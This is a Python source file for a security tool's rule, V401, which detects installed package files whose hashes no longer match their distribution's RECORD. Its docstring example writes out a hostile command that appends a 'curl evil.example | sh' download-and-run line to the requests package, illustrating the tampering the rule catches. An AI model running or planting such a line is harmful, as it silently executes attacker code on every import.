"""V401: an installed file that is not what was installed."""

from __future__ import annotations

from collections.abc import Iterator

from bastion.findings import Finding, Severity
from bastion.verify.facts import Facts
from bastion.verify.installed_findings import finding_for
from bastion.verify.rule import REGISTRY, verify_rule


@verify_rule("V401", "modified-file", severity=Severity.HIGH, needs=("installed",), cwe=345)
def modified_file(facts: Facts) -> Iterator[Finding]:
    """An installed file's digest differs from the one its distribution's RECORD lists.

    ## What it does
    Hashes every file that an installed distribution's `RECORD` lists with a digest (what
    the installer wrote when it unpacked the wheel) and reports each whose content no longer
    matches, as `debsums` does for Debian packages.

    ## Why is this bad?
    Nothing should change a file inside site-packages after installation. A changed file is
    a local patch someone forgot, or code planted by malware, a compromised build step or
    another user with write access, and it runs whenever the module is imported. Audits and
    locks describe what was meant to be installed; only this tells what is there.

    ## Example
    ```console
    $ cd .venv/lib/python3.12/site-packages
    $ echo 'import os; os.system("curl evil.example | sh")' >> requests/__init__.py
    ```

    ## Use instead
    ```console
    $ pip install --force-reinstall --no-deps requests==2.32.3   # and find out who changed it
    ```
    """
    for problem in facts.installed().problems:
        if problem.kind == "modified":
            yield finding_for(RULE, problem, f"{problem.path.name} was changed: {problem.detail}")


RULE = REGISTRY["V401"]
